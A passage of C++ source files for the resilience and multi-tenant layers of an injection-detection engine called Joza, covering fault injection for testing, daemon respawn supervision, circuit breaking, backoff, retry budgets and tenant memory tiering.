    if (name == kNames[i]) return static_cast<FaultPoint>(i);
  }
  return Status::InvalidArgument("unknown fault point: " + std::string(name));
}

FaultInjector& FaultInjector::Global() {
  static FaultInjector injector;
  return injector;
}

void FaultInjector::Arm(FaultPoint point, double rate) {
  if (rate < 0.0) rate = 0.0;
  if (rate > 1.0) rate = 1.0;
  PointState& state = points_[static_cast<std::size_t>(point)];
  state.rate.store(rate, std::memory_order_relaxed);
  state.evaluations.store(0, std::memory_order_relaxed);
  if (rate == 0.0) {
    armed_mask_.fetch_and(~Bit(point), std::memory_order_relaxed);
  } else {
    armed_mask_.fetch_or(Bit(point), std::memory_order_relaxed);
  }
}

void FaultInjector::Disarm(FaultPoint point) { Arm(point, 0.0); }

void FaultInjector::DisarmAll() {
  armed_mask_.store(0, std::memory_order_relaxed);
  for (PointState& state : points_) {
    state.rate.store(0.0, std::memory_order_relaxed);
  }
}

bool FaultInjector::armed(FaultPoint point) const {
  return (armed_mask_.load(std::memory_order_relaxed) & Bit(point)) != 0;
}

std::size_t FaultInjector::fires(FaultPoint point) const {
  return points_[static_cast<std::size_t>(point)].fires.load(
      std::memory_order_relaxed);
}

std::size_t FaultInjector::evaluations(FaultPoint point) const {
  return points_[static_cast<std::size_t>(point)].evaluations.load(
      std::memory_order_relaxed);
}

void FaultInjector::ResetCounters() {
  for (PointState& state : points_) {
    state.evaluations.store(0, std::memory_order_relaxed);
    state.fires.store(0, std::memory_order_relaxed);
  }
}

bool FaultInjector::ShouldFireSlow(FaultPoint point) {
  if ((armed_mask_.load(std::memory_order_relaxed) & Bit(point)) == 0) {
    return false;
  }
  PointState& state = points_[static_cast<std::size_t>(point)];
  const double rate = state.rate.load(std::memory_order_relaxed);
  if (rate <= 0.0) return false;
  const std::uint64_t n =
      state.evaluations.fetch_add(1, std::memory_order_relaxed);
  // Fire whenever the cumulative quota crosses an integer: rate 0.25 fires
  // on evaluations 4, 8, 12, ...; rate 1.0 on every evaluation.
  const bool fire = std::floor(static_cast<double>(n + 1) * rate) >
                    std::floor(static_cast<double>(n) * rate);
  if (fire) state.fires.fetch_add(1, std::memory_order_relaxed);
  return fire;
}

Status ArmFromSpec(FaultInjector& injector, std::string_view spec) {
  std::string_view name = spec;
  double rate = 1.0;
  const std::size_t colon = spec.rfind(':');
  if (colon != std::string_view::npos) {
    name = spec.substr(0, colon);
    const std::string rate_text(spec.substr(colon + 1));
    char* end = nullptr;
    rate = std::strtod(rate_text.c_str(), &end);
    if (end == rate_text.c_str() || *end != '\0' || rate < 0.0 || rate > 1.0) {
      return Status::InvalidArgument("bad fault rate: " + rate_text +
                                     " (want 0..1)");
    }
  }
  auto point = ParseFaultPoint(name);
  if (!point.ok()) return point.status();
  injector.Arm(point.value(), rate);
  return Status::Ok();
}

}  // namespace joza::resilience
