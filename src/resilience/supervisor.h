// DaemonSupervisor: lifecycle policy for a fleet of forked PTI daemons.
//
// The daemon pool used to treat every spawn as free: a daemon that died was
// replaced inline and the query retried once. Under a crash-looping daemon
// binary (bad fragment update, OOM killer, corrupted toolchain) that policy
// burns a fork + handshake per query — a fork storm that costs far more CPU
// than the analysis it fails to run. The supervisor turns respawn into a
// budgeted, paced, observable decision:
//
//   * exponential backoff with deterministic jitter after consecutive spawn
//     failures (a broken binary is retried at 50 ms, 100 ms, ... 5 s, not
//     in a tight loop);
//   * a restart-budget token bucket bounding sustained respawn rate no
//     matter how failures arrive;
//   * flap detection: `flap_threshold` crashes inside `flap_window` put the
//     shard in QUARANTINE — respawns are refused outright for
//     `quarantine` and every Analyze fails fast into the engine's degraded
//     mode (NTI-only or fail-closed, per JozaConfig). One probe spawn is
//     admitted when the quarantine lapses; its outcome decides between
//     recovery and another quarantine round.
//
// The supervisor is a pure policy object: it never forks, never owns fds.
// The pool asks AdmitSpawn() before forking and reports outcomes back. All
// methods are thread-safe (one mutex; consulted only on the spawn path,
// never per-query).
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <utility>
#include <vector>

#include "resilience/backoff.h"
#include "util/status.h"

namespace joza::resilience {

enum class SupervisorState { kHealthy, kBackoff, kQuarantined };

const char* SupervisorStateName(SupervisorState state);

struct SupervisorOptions {
  // Token bucket bounding sustained respawns. `restart_budget` is the
  // burst capacity; refill is per second. Capacity 0 disables the
  // supervisor entirely (every spawn admitted — the pre-supervisor
  // behaviour).
  double restart_budget = 16;
  double restart_refill_per_sec = 1.0;
  BackoffOptions backoff;
  // Flap detection: this many crashes/spawn-failures within the window
  // trips quarantine.
  std::size_t flap_threshold = 5;
  std::chrono::milliseconds flap_window{10000};
  std::chrono::milliseconds quarantine{2000};
};

struct SupervisorStats {
  std::size_t spawns_admitted = 0;   // AdmitSpawn() == OK
  std::size_t restarts = 0;          // admitted spawns that followed a failure
  std::size_t restarts_denied = 0;   // refused: budget, backoff or quarantine
  std::size_t spawn_failures = 0;    // fork/handshake that never went live
  std::size_t crashes = 0;           // live daemons that died/hung mid-flight
  std::size_t quarantines = 0;       // healthy/backoff -> quarantined
  std::size_t quarantine_probes = 0; // spawns admitted to test recovery
  std::size_t recoveries = 0;        // quarantined -> healthy

  // Flattened name/value export for the benchmark subsystem.
  std::vector<std::pair<const char*, std::uint64_t>> Counters() const;
};

class DaemonSupervisor {
 public:
  using Clock = std::chrono::steady_clock;

  explicit DaemonSupervisor(SupervisorOptions options = {});

  bool enabled() const { return options_.restart_budget > 0; }

  // May the pool fork a daemon right now? OK admits (and charges the
  // budget when the spawn is a restart); Unavailable carries the refusal
  // reason (quarantined / backoff / restart budget exhausted). When the
  // quarantine has lapsed, exactly one caller is admitted as the probe.
  Status AdmitSpawn();

  // Outcome reporting. `RecordSpawnFailure` covers forks and handshakes
  // that never produced a live daemon; `RecordCrash` covers live daemons
  // that died or hung mid-flight (both count toward flap detection).
  void RecordSpawnSuccess();
  void RecordSpawnFailure();
  void RecordCrash();

  SupervisorState state() const;
  SupervisorStats stats() const;

  // True while quarantined (callers fail fast without waiting for a free
  // daemon slot — the shard is known-bad).
  bool quarantined() const;

 private:
  void NoteFailureLocked(Clock::time_point now);

  SupervisorOptions options_;

  mutable std::mutex mu_;
  SupervisorState state_ = SupervisorState::kHealthy;
  ExponentialBackoff backoff_;
  TokenBucket restart_bucket_;
  std::vector<Clock::time_point> recent_failures_;  // flap window samples
  Clock::time_point quarantined_until_{};
  bool probe_outstanding_ = false;  // one spawn racing out of quarantine
  // Failures (spawn failures + crashes) since the last healthy spawn; a
  // spawn attempted while this is nonzero is a budget-charged restart.
  std::size_t failures_since_success_ = 0;
  SupervisorStats stats_;
};

}  // namespace joza::resilience
