#include "resilience/circuit_breaker.h"

namespace joza::resilience {

const char* BreakerStateName(BreakerState state) {
  switch (state) {
    case BreakerState::kClosed: return "closed";
    case BreakerState::kOpen: return "open";
    case BreakerState::kHalfOpen: return "half-open";
  }
  return "?";
}

CircuitBreaker::CircuitBreaker(CircuitBreakerOptions options)
    : options_(options) {
  if (options_.half_open_successes == 0) options_.half_open_successes = 1;
}

bool CircuitBreaker::Allow() {
  if (!enabled()) return true;
  std::lock_guard<std::mutex> lock(mu_);
  switch (state_) {
    case BreakerState::kClosed:
      return true;
    case BreakerState::kOpen: {
      const auto now = std::chrono::steady_clock::now();
      if (now - opened_at_ < options_.cooldown) {
        ++stats_.fast_rejects;
        return false;
      }
      // Cooldown over: this caller becomes the first half-open probe.
      state_ = BreakerState::kHalfOpen;
      probe_successes_ = 0;
      probes_in_flight_ = 1;
      ++stats_.probes;
      return true;
    }
    case BreakerState::kHalfOpen:
      // Admit only as many concurrent probes as it takes to close; the
      // rest fail fast so a still-broken backend cannot absorb a thundering
      // herd of timeouts.
      if (probes_in_flight_ >= options_.half_open_successes) {
        ++stats_.fast_rejects;
        return false;
      }
      ++probes_in_flight_;
      ++stats_.probes;
      return true;
  }
  return true;
}

void CircuitBreaker::RecordSuccess() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  ++stats_.successes;
  switch (state_) {
    case BreakerState::kClosed:
      consecutive_failures_ = 0;
      break;
    case BreakerState::kOpen:
      // A success recorded while open (call admitted before the trip);
      // leave the open state to the cooldown machinery.
      break;
    case BreakerState::kHalfOpen:
      if (probes_in_flight_ > 0) --probes_in_flight_;
      if (++probe_successes_ >= options_.half_open_successes) {
        state_ = BreakerState::kClosed;
        consecutive_failures_ = 0;
        ++stats_.closes;
      }
      break;
  }
}

void CircuitBreaker::RecordFailure() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  ++stats_.failures;
  switch (state_) {
    case BreakerState::kClosed:
      if (++consecutive_failures_ >= options_.failure_threshold) {
        state_ = BreakerState::kOpen;
        opened_at_ = std::chrono::steady_clock::now();
        ++stats_.opens;
      }
      break;
    case BreakerState::kOpen:
      break;
    case BreakerState::kHalfOpen:
      // The backend is still broken: reopen and restart the cooldown.
      state_ = BreakerState::kOpen;
      opened_at_ = std::chrono::steady_clock::now();
      probes_in_flight_ = 0;
      probe_successes_ = 0;
      ++stats_.opens;
      break;
  }
}

BreakerState CircuitBreaker::state() const {
  std::lock_guard<std::mutex> lock(mu_);
  return state_;
}

BreakerStats CircuitBreaker::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

void CircuitBreaker::Reset() {
  std::lock_guard<std::mutex> lock(mu_);
  state_ = BreakerState::kClosed;
  consecutive_failures_ = 0;
  probe_successes_ = 0;
  probes_in_flight_ = 0;
}

}  // namespace joza::resilience
