// Pluggable fault injection for the analysis pipeline.
//
// Production fault tolerance is only trustworthy if its failure paths are
// exercised continuously, so the injection points are compiled in always
// and gated by one relaxed atomic load: with nothing armed, ShouldFire is a
// single load-and-branch (zero allocations, no locks, no syscalls).
//
// Design constraints:
//   * Fork-safe. PTI daemons are forked children; an injection point fires
//     inside the child (daemon-hang, daemon-kill) with whatever state it
//     inherited at fork time. All state is therefore lock-free atomics —
//     never a mutex that could be mid-acquisition at fork.
//   * Deterministic. Rates fire on an arithmetic schedule (the k-th
//     evaluation fires iff floor(k*rate) > floor((k-1)*rate)), so tests and
//     benches get reproducible fault trains instead of RNG flakiness.
#pragma once

#include <atomic>
#include <chrono>
#include <cstdint>
#include <string>
#include <string_view>

#include "util/status.h"

namespace joza::resilience {

enum class FaultPoint : unsigned {
  kDaemonHang = 0,   // PTI daemon sleeps instead of answering (stall)
  kDaemonKill,       // PTI daemon exits mid-request (crash)
  kFrameCorrupt,     // IPC frame header is corrupted on the wire
  kShortWrite,       // IPC frame write silently truncates (stalled peer)
  kAcceptFail,       // gateway drops an accepted connection immediately
  kSlowClient,       // gateway worker stalls before reading a request
  kSpawnFail,        // daemon fork/handshake fails before going live
  kSnapshotIo,       // snapshot write/fsync/rename fails mid-persist
  kHedgeLoss,        // hedged secondary attempt loses its race (errors out)
  kCount,
};

const char* FaultPointName(FaultPoint point);
StatusOr<FaultPoint> ParseFaultPoint(std::string_view name);

class FaultInjector {
 public:
  // Process-wide injector consulted by every compiled-in injection point.
  static FaultInjector& Global();

  // Arms `point` to fire on `rate` of evaluations (clamped to [0, 1];
  // 1.0 fires every time). Rearming resets the schedule.
  void Arm(FaultPoint point, double rate);
  void Disarm(FaultPoint point);
  void DisarmAll();

  bool armed(FaultPoint point) const;
  double rate(FaultPoint point) const {
    return points_[static_cast<std::size_t>(point)].rate.load(
        std::memory_order_relaxed);
  }
  std::size_t fires(FaultPoint point) const;
  std::size_t evaluations(FaultPoint point) const;
  void ResetCounters();

  // Stall length used by the hang/slow points.
  void set_hang(std::chrono::milliseconds hang) {
    hang_ms_.store(static_cast<std::int64_t>(hang.count()),
                   std::memory_order_relaxed);
  }
  std::chrono::milliseconds hang() const {
    return std::chrono::milliseconds(hang_ms_.load(std::memory_order_relaxed));
  }

  // The hot-path check. Call sites own the fault behaviour; this only
  // decides whether the fault fires now.
  bool ShouldFire(FaultPoint point) {
    if (armed_mask_.load(std::memory_order_relaxed) == 0) return false;
    return ShouldFireSlow(point);
  }

 private:
  FaultInjector() = default;
  bool ShouldFireSlow(FaultPoint point);

  struct PointState {
    std::atomic<double> rate{0.0};
    std::atomic<std::uint64_t> evaluations{0};
    std::atomic<std::uint64_t> fires{0};
  };

  std::atomic<std::uint32_t> armed_mask_{0};
  std::atomic<std::int64_t> hang_ms_{30000};
  PointState points_[static_cast<std::size_t>(FaultPoint::kCount)];
};

// Parses and arms one `point:rate` spec (e.g. "daemon-hang:0.1"); a bare
// point name arms at rate 1.0. This is the grammar behind the gateway's
// --fault flag.
Status ArmFromSpec(FaultInjector& injector, std::string_view spec);

}  // namespace joza::resilience
