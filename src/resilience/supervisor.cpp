#include "resilience/supervisor.h"

#include <algorithm>

namespace joza::resilience {

const char* SupervisorStateName(SupervisorState state) {
  switch (state) {
    case SupervisorState::kHealthy: return "healthy";
    case SupervisorState::kBackoff: return "backoff";
    case SupervisorState::kQuarantined: return "quarantined";
  }
  return "?";
}

std::vector<std::pair<const char*, std::uint64_t>> SupervisorStats::Counters()
    const {
  return {
      {"supervisor_spawns_admitted", spawns_admitted},
      {"supervisor_restarts", restarts},
      {"supervisor_restarts_denied", restarts_denied},
      {"supervisor_spawn_failures", spawn_failures},
      {"supervisor_crashes", crashes},
      {"supervisor_quarantines", quarantines},
      {"supervisor_quarantine_probes", quarantine_probes},
      {"supervisor_recoveries", recoveries},
  };
}

DaemonSupervisor::DaemonSupervisor(SupervisorOptions options)
    : options_(options),
      backoff_(options.backoff),
      restart_bucket_(
          TokenBucketOptions{options.restart_budget,
                             options.restart_refill_per_sec, -1},
          Clock::now()) {
  if (options_.flap_threshold == 0) options_.flap_threshold = 1;
}

Status DaemonSupervisor::AdmitSpawn() {
  if (!enabled()) return Status::Ok();
  std::lock_guard<std::mutex> lock(mu_);
  const auto now = Clock::now();

  if (state_ == SupervisorState::kQuarantined) {
    if (now < quarantined_until_ || probe_outstanding_) {
      ++stats_.restarts_denied;
      return Status::Unavailable("PTI shard quarantined");
    }
    // Quarantine lapsed: exactly one probe spawn races out; its outcome
    // (RecordSpawnSuccess / a failure report) decides recovery.
    probe_outstanding_ = true;
    ++stats_.quarantine_probes;
    ++stats_.spawns_admitted;
    ++stats_.restarts;
    return Status::Ok();
  }

  const bool restart = failures_since_success_ > 0;
  if (restart) {
    if (!backoff_.AllowedAt(now)) {
      ++stats_.restarts_denied;
      return Status::Unavailable("respawn backoff in effect");
    }
    if (!restart_bucket_.TryWithdraw(1.0, now)) {
      ++stats_.restarts_denied;
      return Status::Unavailable("restart budget exhausted");
    }
    ++stats_.restarts;
  }
  ++stats_.spawns_admitted;
  return Status::Ok();
}

void DaemonSupervisor::RecordSpawnSuccess() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  backoff_.Reset();
  failures_since_success_ = 0;
  recent_failures_.clear();
  if (state_ == SupervisorState::kQuarantined) {
    ++stats_.recoveries;
    probe_outstanding_ = false;
  }
  state_ = SupervisorState::kHealthy;
}

void DaemonSupervisor::RecordSpawnFailure() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  const auto now = Clock::now();
  ++stats_.spawn_failures;
  backoff_.RecordFailure(now);
  NoteFailureLocked(now);
}

void DaemonSupervisor::RecordCrash() {
  if (!enabled()) return;
  std::lock_guard<std::mutex> lock(mu_);
  // A crash of a previously-live daemon charges flap detection and the
  // restart budget (via failures_since_success_) but not the backoff
  // clock: one isolated crash must not delay its replacement.
  ++stats_.crashes;
  NoteFailureLocked(Clock::now());
}

void DaemonSupervisor::NoteFailureLocked(Clock::time_point now) {
  ++failures_since_success_;
  recent_failures_.push_back(now);
  const auto cutoff = now - options_.flap_window;
  recent_failures_.erase(
      std::remove_if(recent_failures_.begin(), recent_failures_.end(),
                     [&](Clock::time_point t) { return t < cutoff; }),
      recent_failures_.end());

  if (state_ == SupervisorState::kQuarantined) {
    // The recovery probe failed: straight back into quarantine for another
    // full period.
    if (probe_outstanding_) {
      probe_outstanding_ = false;
      quarantined_until_ = now + options_.quarantine;
      ++stats_.quarantines;
    }
    return;
  }
  if (recent_failures_.size() >= options_.flap_threshold) {
    state_ = SupervisorState::kQuarantined;
    quarantined_until_ = now + options_.quarantine;
    probe_outstanding_ = false;
    ++stats_.quarantines;
    recent_failures_.clear();
    return;
  }
  state_ = SupervisorState::kBackoff;
}

SupervisorState DaemonSupervisor::state() const {
  std::lock_guard<std::mutex> lock(mu_);
  return state_;
}

bool DaemonSupervisor::quarantined() const {
  std::lock_guard<std::mutex> lock(mu_);
  if (state_ != SupervisorState::kQuarantined) return false;
  // Once the period lapses the shard is probe-able: callers should fall
  // through to AdmitSpawn instead of failing fast.
  return Clock::now() < quarantined_until_ || probe_outstanding_;
}

SupervisorStats DaemonSupervisor::stats() const {
  std::lock_guard<std::mutex> lock(mu_);
  return stats_;
}

}  // namespace joza::resilience
