// Circuit breaker for the PTI analysis backend.
//
// The recovery policy (DSN 2015 §IV-C) demands that a broken analyzer never
// waves a query through — but paying a full IPC timeout per query while
// every daemon is down turns an analyzer outage into a latency outage. The
// breaker bounds that: after `failure_threshold` consecutive backend
// failures it OPENS and callers fail fast into the engine's degraded mode;
// after `cooldown` it admits a bounded number of HALF-OPEN probes, and
// `half_open_successes` consecutive probe successes CLOSE it again.
//
// Thread safety: all methods may race freely; state lives behind one mutex
// (the breaker is consulted once per un-cached PTI analysis, never on the
// cache hit path).
#pragma once

#include <chrono>
#include <cstddef>
#include <mutex>

namespace joza::resilience {

enum class BreakerState { kClosed, kOpen, kHalfOpen };

const char* BreakerStateName(BreakerState state);

struct CircuitBreakerOptions {
  // Consecutive failures that trip the breaker. 0 disables it entirely
  // (Allow always passes, nothing is recorded).
  std::size_t failure_threshold = 5;
  // How long the breaker stays open before admitting half-open probes.
  std::chrono::milliseconds cooldown{1000};
  // Consecutive probe successes required to close from half-open.
  std::size_t half_open_successes = 2;
};

struct BreakerStats {
  std::size_t opens = 0;         // closed/half-open -> open transitions
  std::size_t closes = 0;        // half-open -> closed transitions
  std::size_t fast_rejects = 0;  // calls refused while open
  std::size_t probes = 0;        // half-open attempts admitted
  std::size_t failures = 0;      // recorded backend failures
  std::size_t successes = 0;     // recorded backend successes
};

class CircuitBreaker {
 public:
  explicit CircuitBreaker(CircuitBreakerOptions options = {});

  // True: the caller may attempt the backend call and MUST report the
  // outcome via RecordSuccess/RecordFailure. False: fail fast (degraded).
  bool Allow();

  void RecordSuccess();
  void RecordFailure();

  BreakerState state() const;
  BreakerStats stats() const;
  bool enabled() const { return options_.failure_threshold > 0; }

  // Back to closed with counters intact (transitions are cumulative).
  void Reset();

 private:
  CircuitBreakerOptions options_;

  mutable std::mutex mu_;
  BreakerState state_ = BreakerState::kClosed;
  std::size_t consecutive_failures_ = 0;
  std::size_t probe_successes_ = 0;
  std::size_t probes_in_flight_ = 0;
  std::chrono::steady_clock::time_point opened_at_{};
  BreakerStats stats_;
};

}  // namespace joza::resilience
