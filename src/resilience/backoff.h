// Respawn pacing primitives: exponential backoff and token buckets.
//
// Both are policy objects for the self-healing serving tier. A supervisor
// that respawns a crashing daemon as fast as fork(2) allows turns one bad
// binary into a fork storm; backoff spaces the attempts out, and the token
// bucket caps how much respawn (or retry) work the tier may spend per unit
// time no matter how the failures arrive.
//
// Determinism: the jitter is derived from the attempt counter via a fixed
// integer hash, not an RNG, so chaos tests replay identical schedules.
// Both classes take explicit time points so tests can drive a fake clock;
// production callers pass Clock::now().
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>

namespace joza::resilience {

struct BackoffOptions {
  std::chrono::milliseconds base{50};   // delay after the first failure
  std::chrono::milliseconds max{5000};  // cap for the exponential growth
  // Jitter fraction in [0, 1): each delay is scaled into
  // [1 - jitter, 1] * nominal, keyed off the attempt counter.
  double jitter = 0.25;
};

// Exponential backoff with deterministic jitter. Not thread-safe; callers
// (the supervisor) hold their own lock.
class ExponentialBackoff {
 public:
  using Clock = std::chrono::steady_clock;

  explicit ExponentialBackoff(BackoffOptions options = {});

  // Records one failure at `now`: the next attempt is allowed only after
  // Delay(failures) has elapsed.
  void RecordFailure(Clock::time_point now);
  // Success resets the schedule: the next failure starts at `base` again.
  void Reset();

  bool AllowedAt(Clock::time_point now) const;
  Clock::time_point next_allowed() const { return next_allowed_; }
  std::size_t consecutive_failures() const { return consecutive_failures_; }

  // The nominal-with-jitter delay that follows the `failures`-th
  // consecutive failure (1-based). Exposed for tests.
  std::chrono::milliseconds Delay(std::size_t failures) const;

 private:
  BackoffOptions options_;
  std::size_t consecutive_failures_ = 0;
  Clock::time_point next_allowed_{};  // epoch: always allowed initially
};

struct TokenBucketOptions {
  double capacity = 10;          // burst size
  double refill_per_sec = 0.5;   // sustained rate
  double initial = -1;           // < 0 starts full
};

// Continuous-refill token bucket. Not thread-safe on its own (owners lock).
class TokenBucket {
 public:
  using Clock = std::chrono::steady_clock;

  explicit TokenBucket(TokenBucketOptions options, Clock::time_point now);

  // Withdraws `cost` tokens if available at `now`. False = budget denied.
  bool TryWithdraw(double cost, Clock::time_point now);
  // Deposits tokens directly (success-coupled budgets: each success earns
  // back a fraction of a retry). Clamped to capacity.
  void Deposit(double amount);

  double available(Clock::time_point now);

 private:
  void Refill(Clock::time_point now);

  TokenBucketOptions options_;
  double tokens_ = 0;
  Clock::time_point last_refill_;
};

}  // namespace joza::resilience
