// Hedging support: retry budgets and tail-latency tracking.
//
// A hedged request races a second attempt against a straggler once the
// first has been in flight longer than the p99 of recent successes — the
// classic tail-at-scale trick. Unbounded, hedges amplify load exactly when
// the backend is least able to absorb it (an outage makes every request
// slow, so every request hedges, doubling the dying backend's load). The
// RetryBudget prevents that: hedges and retries spend from a bucket that
// only primary successes replenish, so during an outage the budget drains
// and the tier degrades to single attempts (which the circuit breaker then
// fails fast).
//
// Thread safety: both classes are internally locked; they sit on the
// Analyze path of the daemon pool where calls are already paced by IPC
// round trips.
#pragma once

#include <chrono>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <vector>

#include "resilience/backoff.h"

namespace joza::resilience {

struct RetryBudgetOptions {
  // Max retries/hedges banked. 0 disables the budget (every retry allowed
  // — the pre-hedging behaviour).
  double capacity = 20;
  // Fraction of a token deposited per successful primary attempt: 0.1
  // means sustained retry traffic may be at most ~10% of success traffic.
  double earn_per_success = 0.1;
};

class RetryBudget {
 public:
  explicit RetryBudget(RetryBudgetOptions options = {});

  // Spend one retry/hedge. False = denied (amplification guard tripped).
  bool TrySpend();
  // A primary attempt succeeded: earn back a fraction of a token.
  void RecordSuccess();

  double available() const;
  std::size_t denied() const;
  bool enabled() const { return options_.capacity > 0; }

 private:
  RetryBudgetOptions options_;
  mutable std::mutex mu_;
  TokenBucket bucket_;
  std::size_t denied_ = 0;
};

// Sliding-window latency reservoir for deriving the hedge delay. Keeps the
// last `window` samples in a ring; Quantile() sorts a copy (the window is
// small and the call sits on the slow hedge-arming path, not per-request).
class LatencyTracker {
 public:
  explicit LatencyTracker(std::size_t window = 256);

  void Record(std::chrono::microseconds sample);
  std::size_t samples() const;

  // The q-quantile (0 < q <= 1) of the current window, or `fallback` until
  // `min_samples` observations have accumulated.
  std::chrono::microseconds Quantile(
      double q, std::chrono::microseconds fallback,
      std::size_t min_samples = 16) const;

 private:
  mutable std::mutex mu_;
  std::vector<std::chrono::microseconds> ring_;
  std::size_t next_ = 0;
  std::size_t count_ = 0;
};

}  // namespace joza::resilience
