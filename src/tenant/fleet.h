// Multi-tenant engine fleet with tiered ruleset memory.
//
// One Joza deployment protecting thousands of tenant applications cannot
// keep every tenant's fragment vocabulary, Aho–Corasick automaton and
// verdict cache shards hot in RAM. The Fleet owns one core::Joza engine
// per tenant and tiers them between two residency states:
//
//   hot   — full engine resident: automaton built, caches live, optional
//           per-tenant PTI daemon pool spun up.
//   cold  — the tenant's Ruleset serialized through the JZSNAP01 snapshot
//           codec into an mmap-backed cold store; the engine, caches and
//           daemons are gone. The mapped bytes are all that remains.
//
// The residency manager runs a greedy knapsack/LRU hybrid under a
// configurable byte budget: every Acquire() bumps the tenant's EWMA hit
// rate and last-touch tick, and when admitting a tenant would overflow the
// budget, the resident tenant with the lowest decayed-rate-per-byte score
// is demoted first. Promotion (cold → hot) re-parses the Ruleset straight
// out of the mapping — counted as a cold_load — and is bounded by a
// concurrency gate so a stampede of cold tenants cannot fork-bomb
// automaton rebuilds; concurrent acquirers of the SAME tenant coalesce on
// one rebuild.
//
// Safety properties:
//   * Verdict identity: demotion round-trips the exact fragment vocabulary
//     and version through the crash-durable codec, so a re-promoted tenant
//     produces byte-identical verdicts. Only cache warmth is lost.
//   * Fail-closed: an unreadable or corrupt cold image fails the Acquire
//     with an error — the gateway answers 503; no request is ever served
//     with a partial or absent vocabulary (ROADMAP §IV-C semantics).
//   * RCU pins: Acquire returns a shared_ptr pin. Demotion drops the
//     fleet's reference but in-flight checks keep theirs; the demoted
//     engine (and its daemon pool) is destroyed only when the last reader
//     drops the pin.
//
// Thread safety: every public method may be called from any number of
// threads (all gateway workers/shards route through one Fleet).
#pragma once

#include <condition_variable>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "core/joza.h"
#include "ipc/daemon_pool.h"
#include "phpsrc/fragments.h"
#include "resilience/snapshot.h"
#include "util/status.h"

namespace joza::tenant {

// Every request without an explicit tenant id routes here (back-compat
// with single-tenant deployments). Same name owns legacy snapshots.
inline constexpr const char* kDefaultTenant =
    resilience::kDefaultTenantName;

inline constexpr std::size_t kMaxTenantIdBytes = 64;

// Tenant ids are cold-store file name components, so the grammar is strict:
// [A-Za-z0-9_-]{1,64}. No dots, no slashes — a hostile id cannot traverse
// out of the cold directory or collide with ".tmp" suffixes.
bool ValidTenantId(std::string_view id);

struct FleetOptions {
  // Engine template: every tenant engine is built with this config (the
  // per-tenant initial_ruleset_version is filled in by the fleet).
  core::JozaConfig engine;
  // Resident-set byte budget. 0 = unbudgeted: every tenant stays hot
  // forever (the back-compat shape — and the reference a budgeted run's
  // verdicts are gated against).
  std::uint64_t memory_budget_bytes = 0;
  // Directory for cold images (<cold_dir>/<tenant>.ruleset). Required when
  // budgeted; created on first use.
  std::string cold_dir;
  // Bound on concurrent cold→hot rebuilds (the stampede gate).
  std::size_t max_concurrent_promotions = 2;
  // Per-tenant PTI daemon pools, spun up lazily with the engine on
  // promotion and torn down with it on demotion (idle tenant daemons cost
  // nothing once their tenant goes cold).
  bool use_daemon_pool = false;
  ipc::DaemonPool::Options pool;
  // When non-empty, tenants warm-start from (and persist to) the
  // tenant-qualified snapshot path <snapshot_base>.<tenant>.
  std::string snapshot_base;
  // Per-tick decay of the EWMA access rate (the LRU half of the eviction
  // score; the rate-per-byte ratio is the knapsack half).
  double ewma_decay = 0.98;
};

// One tenant's externally visible accounting.
struct TenantInfo {
  std::string id;
  bool resident = false;
  std::uint64_t ruleset_version = 0;
  std::uint64_t resident_bytes = 0;  // ledger charge while resident
  std::uint64_t requests = 0;        // Acquire weight routed to this tenant
  std::uint64_t cold_loads = 0;      // promotions (first touch + re-entry)
  std::uint64_t demotions = 0;
  core::JozaStats engine;  // accumulated across residency generations
};

struct FleetStats {
  std::size_t tenants = 0;
  std::size_t resident = 0;
  std::uint64_t budget_bytes = 0;
  std::uint64_t resident_bytes = 0;       // current ledger total
  std::uint64_t peak_resident_bytes = 0;  // high-water mark of the ledger
  std::uint64_t requests = 0;
  std::uint64_t cold_loads = 0;
  std::uint64_t demotions = 0;
  std::uint64_t promote_waits = 0;     // stampede-coalesced + gate waits
  std::uint64_t acquire_failures = 0;  // fail-closed refusals
};

class Fleet {
 public:
  // A pinned hot engine. Holding the pin keeps the engine (and its daemon
  // pool) alive even across a concurrent demotion — RCU semantics, like
  // the engine's own ruleset snapshots.
  using EnginePin = std::shared_ptr<core::Joza>;

  explicit Fleet(FleetOptions options);
  ~Fleet();

  Fleet(const Fleet&) = delete;
  Fleet& operator=(const Fleet&) = delete;

  // Registers a tenant with its seed vocabulary. Tenants start cold
  // (lazy: nothing is built until the first Acquire). When snapshot_base
  // is set, a persisted tenant-qualified snapshot (or, for the default
  // tenant, a legacy un-suffixed one) warm-starts the vocabulary/version.
  Status AddTenant(std::string_view id, php::FragmentSet seed);

  bool Has(std::string_view id) const;
  std::vector<std::string> TenantIds() const;

  // Routes one request's worth of work to `id`: bumps its access stats by
  // `weight` (batched admission acquires once per same-tenant run) and
  // returns a pin on its hot engine, promoting — and demoting victims —
  // as needed. Fail-closed: NotFound for unknown tenants, an error when
  // the cold image is unreadable or the budget cannot admit the tenant.
  StatusOr<EnginePin> Acquire(std::string_view id, std::size_t weight = 1);

  // Forces a tenant cold (ops hook / tests). No-op if already cold.
  Status Demote(std::string_view id);

  // Folds new sources into a tenant's published ruleset (hot tenants
  // only; a cold tenant's vocabulary updates on next promotion via its
  // persisted snapshot).
  Status OnSourcesChanged(std::string_view id,
                          const std::vector<php::SourceFile>& files);

  // Reaps idle daemons across every resident tenant's pool.
  void ReapIdle();

  FleetStats stats() const;
  // The construction-time options, notably the engine template (the
  // gateway seeds its admission planner from engine.cost_model).
  const FleetOptions& options() const { return options_; }
  // Per-tenant accounting, id-sorted (CLI stats dump, tests).
  std::vector<TenantInfo> TenantInfos() const;
  // Engine counters summed across all tenants, resident or not.
  core::JozaStats AggregateEngineStats() const;

  // Conservative byte estimate for one tenant's hot footprint (exposed so
  // benches can size budgets in engine-estimate units).
  static std::uint64_t EstimateHotBytes(const php::FragmentSet& fragments,
                                        const core::JozaConfig& config);

 private:
  struct TenantEntry;

  // The engine plus its lifecycle dependents, destroyed together when the
  // last pin drops. Declaration order matters: the pool must outlive the
  // engine (the engine's PTI backend calls into it), so it is declared
  // first and destroyed last.
  struct EngineHandle {
